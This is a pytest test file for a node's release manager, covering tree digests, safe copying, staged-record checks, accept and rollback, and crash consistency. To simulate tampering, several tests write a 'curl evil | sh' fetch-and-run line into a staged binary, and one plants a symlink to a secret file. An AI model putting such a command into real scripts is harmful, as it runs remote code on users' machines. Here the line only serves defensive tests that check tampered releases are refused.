"""A node's releases' root (D45-D47): digests that nothing staged can bend, and links
that a kill at any step of accept or roll-back leaves consistent (ocx/node/releases)."""
from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ocx.node.releases.links import LINKS, MOVING, STAGED, ReleaseError, Releases, release_id
from ocx.node.releases.preview import copy_for_preview
from ocx.node.releases.tree import TreeError, copy_tree, tree_digest


def files(where: Path, version: str) -> None:
    (where / "bin").mkdir(parents=True)
    (where / "bin" / "ocx").write_text(f"#!/bin/sh\necho {version}\n")
    (where / "bin" / "ocx").chmod(0o755)
    (where / "bin" / "python").symlink_to("/usr/bin/python3")
    (where / "lib").mkdir()
    (where / "lib" / "version.txt").write_text(version)


def stage(root: Path, version: str, smoke: str = "passed") -> str:
    """What the build does as its own user: files under staged/, named, and recorded beside them."""
    staged = root / STAGED
    staged.mkdir(parents=True, exist_ok=True)
    building = staged / f"building-{version}"
    files(building, version)
    digest = tree_digest(str(building))
    checkin = hashlib.sha256(version.encode()).hexdigest()
    release = release_id(checkin, digest)
    building.rename(staged / release)
    (staged / f"{release}.json").write_text(json.dumps({"checkin": checkin, "digest": digest,
                                                         "smoke": {"version": smoke}}))
    return release


def test_the_digest_is_of_the_files_alone_wherever_they_lie(tmp_path):
    files(tmp_path / "a", "1")
    files(tmp_path / "b", "1")
    assert tree_digest(str(tmp_path / "a")) == tree_digest(str(tmp_path / "b"))
    (tmp_path / "b" / "lib").chmod(0o700)  # a directory's own mode is not the copy's
    assert tree_digest(str(tmp_path / "a")) == tree_digest(str(tmp_path / "b"))


@pytest.mark.parametrize("change", ["byte", "mode", "link", "new file", "rename"])
def test_any_change_to_the_files_changes_the_digest(tmp_path, change):
    files(tmp_path / "r", "1")
    before = tree_digest(str(tmp_path / "r"))
    ocx = tmp_path / "r" / "bin" / "ocx"
    if change == "byte":
        ocx.write_text(ocx.read_text().replace("1", "2"))
    elif change == "mode":
        ocx.chmod(0o644)
    elif change == "link":
        (tmp_path / "r" / "bin" / "python").unlink()
        (tmp_path / "r" / "bin" / "python").symlink_to("/tmp/python3")
    elif change == "new file":
        (tmp_path / "r" / "lib" / "extra.py").write_text("")
    else:
        (tmp_path / "r" / "lib" / "version.txt").rename(tmp_path / "r" / "lib" / "version.txx")
    assert tree_digest(str(tmp_path / "r")) != before


def test_a_copy_takes_links_as_links_and_no_set_id_bit(tmp_path):
    files(tmp_path / "r", "1")
    secret = tmp_path / "secret"
    secret.write_text("root's")
    (tmp_path / "r" / "lib" / "steal").symlink_to(secret)
    (tmp_path / "r" / "bin" / "ocx").chmod(0o4755)
    digest = copy_tree(str(tmp_path / "r"), str(tmp_path / "copy"))
    assert os.readlink(tmp_path / "copy" / "lib" / "steal") == str(secret)  # a link, not root's file's bytes
    assert (tmp_path / "copy" / "bin" / "ocx").stat().st_mode & 0o7777 == 0o755
    assert digest == tree_digest(str(tmp_path / "r")) == tree_digest(str(tmp_path / "copy"))


def test_a_fifo_is_refused_not_read(tmp_path):
    files(tmp_path / "r", "1")
    os.mkfifo(tmp_path / "r" / "lib" / "hang")
    with pytest.raises(TreeError, match="neither a file"):
        tree_digest(str(tmp_path / "r"))


def test_a_staged_record_that_is_a_link_or_lies_is_refused(tmp_path):
    releases = Releases(str(tmp_path))
    release = stage(tmp_path, "1")
    record = tmp_path / STAGED / f"{release}.json"
    fields = json.loads(record.read_text())
    record.unlink()
    record.symlink_to(tmp_path / "elsewhere.json")
    (tmp_path / "elsewhere.json").write_text(json.dumps(fields))
    with pytest.raises(ReleaseError, match="was not staged"):
        releases.staged(release)
    record.unlink()
    record.write_text(json.dumps({**fields, "checkin": "0" * 40}))
    with pytest.raises(ReleaseError, match="not named by its check-in"):
        releases.staged(release)
    with pytest.raises(ReleaseError, match="release: "):
        releases.staged("../etc")


def test_accept_makes_next_current_and_rollback_goes_back(tmp_path):
    releases = Releases(str(tmp_path))
    first, second = stage(tmp_path, "1"), stage(tmp_path, "2")
    releases.offer(first)
    assert releases.accept() == first
    assert releases.links() == {"current": first, "previous": None, "next": None}
    releases.offer(second)
    assert releases.accept() == second
    assert releases.links() == {"current": second, "previous": first, "next": None}
    assert (tmp_path / "current" / "lib" / "version.txt").read_text() == "2"
    assert releases.rollback() == first
    assert releases.links() == {"current": first, "previous": second, "next": None}
    assert (tmp_path / "current" / "lib" / "version.txt").read_text() == "1"


def test_accept_with_nothing_staged_or_rollback_with_nothing_before_is_refused(tmp_path):
    releases = Releases(str(tmp_path))
    with pytest.raises(ReleaseError, match="next: nothing is staged"):
        releases.accept()
    releases.offer(stage(tmp_path, "1"))
    releases.accept()
    with pytest.raises(ReleaseError, match="previous: there is no release"):
        releases.rollback()


def test_accepting_the_current_release_again_stops(tmp_path):
    releases = Releases(str(tmp_path))
    release = stage(tmp_path, "1")
    releases.offer(release)
    releases.accept()
    releases.offer(release)
    with pytest.raises(ReleaseError, match="current already"):
        releases.accept()


def test_a_release_changed_after_staging_is_refused_at_accept(tmp_path):
    """With no copy of root's made at stage (staged by an OCX that made none), accept copies staged/."""
    releases = Releases(str(tmp_path))
    first, second = stage(tmp_path, "1"), stage(tmp_path, "2")
    releases.offer(first)
    releases.accept()
    releases.offer(second)
    (tmp_path / STAGED / second / "bin" / "ocx").write_text("#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(ReleaseError, match="digest: .* changed after staging"):
        releases.accept()
    assert releases.links() == {"current": first, "previous": None, "next": second}
    assert not (tmp_path / second).exists()
    assert not [p for p in os.listdir(tmp_path) if p.endswith(".partial")]


def test_accept_takes_roots_copy_made_at_stage_and_staged_changes_after_it_do_not_reach_current(tmp_path):
    """Stage made root's copy (preview/ID, digest-checked then): accept checks its digest again and
    renames it, so staged/ is not read again and what the build user wrote there since is not current."""
    releases = Releases(str(tmp_path))
    release = stage(tmp_path, "1")
    made = copy_for_preview(str(tmp_path), releases.staged(release))
    releases.offer(release)
    inode = os.stat(Path(made) / "lib" / "version.txt").st_ino
    (tmp_path / STAGED / release / "bin" / "ocx").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert releases.accept() == release
    assert os.stat(tmp_path / release / "lib" / "version.txt").st_ino == inode  # renamed, not copied again
    assert (tmp_path / "current" / "bin" / "ocx").read_text() == "#!/bin/sh\necho 1\n"
    assert tree_digest(str(tmp_path / release)) == releases.staged(release).digest
    assert not os.path.exists(made)


def test_roots_copy_changed_after_stage_is_refused_at_accept(tmp_path):
    releases = Releases(str(tmp_path))
    release = stage(tmp_path, "1")
    made = copy_for_preview(str(tmp_path), releases.staged(release))
    releases.offer(release)
    (Path(made) / "lib" / "version.txt").write_text("2")
    with pytest.raises(ReleaseError, match="digest: .* copy made at stage is not what was staged"):
        releases.accept()
    assert releases.links() == {"current": None, "previous": None, "next": release}
    assert not (tmp_path / release).exists()


def test_a_link_where_roots_copy_would_be_is_not_taken(tmp_path):
    """preview/ID a link (root never makes one): accept copies out of staged/ as before, and refuses a change."""
    releases = Releases(str(tmp_path))
    release = stage(tmp_path, "1")
    (tmp_path / "preview").mkdir()
    (tmp_path / "preview" / release).symlink_to(tmp_path / STAGED / release)
    releases.offer(release)
    (tmp_path / STAGED / release / "bin" / "ocx").write_text("#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(ReleaseError, match="digest: .* changed after staging"):
        releases.accept()
    assert releases.links()["current"] is None


class Cut(Exception):
    """A kill at one step: nothing after it runs, nothing is cleaned up."""


STEPS = ("copy", "copied", "intent", *LINKS, "links")


@settings(max_examples=80, deadline=None)
@given(kind=st.sampled_from(["accept", "rollback"]), at=st.sampled_from(STEPS), nth=st.integers(1, 2),
       previewed=st.booleans())
def test_a_kill_at_any_step_is_found_consistent_and_the_step_can_be_done_again(tmp_path_factory, kind, at, nth,
                                                                               previewed):
    """PREVIEWED: the second release staged with root's copy (preview/ID), which accept takes."""
    root = tmp_path_factory.mktemp("releases")
    ready = Releases(str(root))
    first, second = stage(root, "1"), stage(root, "2")
    ready.offer(first)
    ready.accept()
    if previewed:
        copy_for_preview(str(root), ready.staged(second))
    ready.offer(second)
    if kind == "rollback":
        ready.accept()
    before = ready.links()
    seen = {"n": 0}

    def cut(step: str) -> None:
        if step == at:
            seen["n"] += 1
            if seen["n"] == nth:
                raise Cut(step)

    releases = Releases(str(root), cut)
    try:
        (releases.accept if kind == "accept" else releases.rollback)()
    except Cut:
        pass
    after_kill = Releases(str(root))
    after_kill.recover()
    links = after_kill.links()
    done = {"current": second, "previous": first, "next": None} if kind == "accept" else \
        {"current": first, "previous": second, "next": None}
    assert links in (before, done)
    for name in LINKS:  # no link dangles, none names a half-made release
        path = root / name
        assert not path.is_symlink() or path.resolve().is_dir()
    assert not (root / MOVING).exists()
    assert not [p for p in os.listdir(root) if p.endswith((".partial", ".link"))]
    if links == before:  # undone: the same step can be taken again, and completes
        (after_kill.accept if kind == "accept" else after_kill.rollback)()
        links = after_kill.links()
        assert links == done
    assert (root / "current" / "lib" / "version.txt").read_text() == ("2" if links["current"] == second else "1")


def test_only_releases_nothing_names_are_removable_beyond_the_last_three(tmp_path):
    releases = Releases(str(tmp_path))
    made = []
    for version in "1234567":
        made.append(stage(tmp_path, version))
        releases.offer(made[-1])
        releases.accept()
        os.utime(tmp_path / made[-1], (len(made), len(made)))  # accepted in this order
    # current is 7, previous 6; a live unit still names 1 (D47); the last three others stay
    assert releases.removable(named={made[0]}) == [made[1]]
    assert releases.removable(named=set()) == [made[0], made[1]]
